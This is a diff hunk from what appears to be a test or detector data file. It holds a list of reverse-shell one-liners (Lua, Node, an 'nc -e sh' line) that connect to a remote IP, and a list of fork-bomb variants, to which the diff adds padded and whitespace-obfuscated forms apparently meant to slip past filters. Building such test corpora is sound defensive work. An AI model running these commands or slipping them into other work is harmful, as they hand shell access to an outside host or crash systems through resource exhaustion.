@@ -41,7 +41,8 @@ SHELLS_FOR_STRANGERS = [
     "lua -e \"t=require('socket').tcp();t:connect('10.9.8.7','1');os.execute('/bin/sh -i <&3 >&3 2>&3')\"", "node -e 'n=require(\"net\");s=require(\"child_process\").spawn(\"/bin/bash\",[]);n.connect(1,\"10.9.8.7\").pipe(s.stdin)'",
 ]
 
-MULTIPLY = [":(){ :|:& };:", ":(){ :|: & };:", "bomb() { bomb | bomb & }; bomb", "f(){ f & f; };f", "function x { x & x & }; x", "f() (f|f&); f", ".() { .|.& };.", "bash -c ':(){ :|:& };:'", "eval ':(){ :|:& };:'",
+PADDING = "a" * 3_000
+MULTIPLY = [f"f() {{ echo {PADDING}; f | f & }}; f", f"f() {{ f {PADDING} | f & }}; f", f"while :; do ./x {PADDING} & done", "f   (   )" + " " * 40 + "{ f|f& }; f", "f()" + "\n" * 40 + "{ f|f& }; f", f"os -c 'x(\"nc -e sh h 1; {PADDING}\")'", ":(){ :|:& };:", ":(){ :|: & };:", "bomb() { bomb | bomb & }; bomb", "f(){ f & f; };f", "function x { x & x & }; x", "f() (f|f&); f", ".() { .|.& };.", "bash -c ':(){ :|:& };:'", "eval ':(){ :|:& };:'",
             "while :; do sleep 99 & done", "while true; do yes > /dev/null & done", "until false; do ./x & done", "for ((;;)); do ./x & done", "$0 & $0 &", "./$0|./$0&",
             "perl -e 'fork while fork'", "perl -e 'while(1){fork}'", "python3 -c 'import os\nwhile True: os.fork()'", "python3 -c 'import os\nwhile 1:os.fork()'", "ruby -e 'loop { fork }'", "php -r 'while(1) pcntl_fork();'", "sh -c 'f() { f | f & }\nf'"]
 
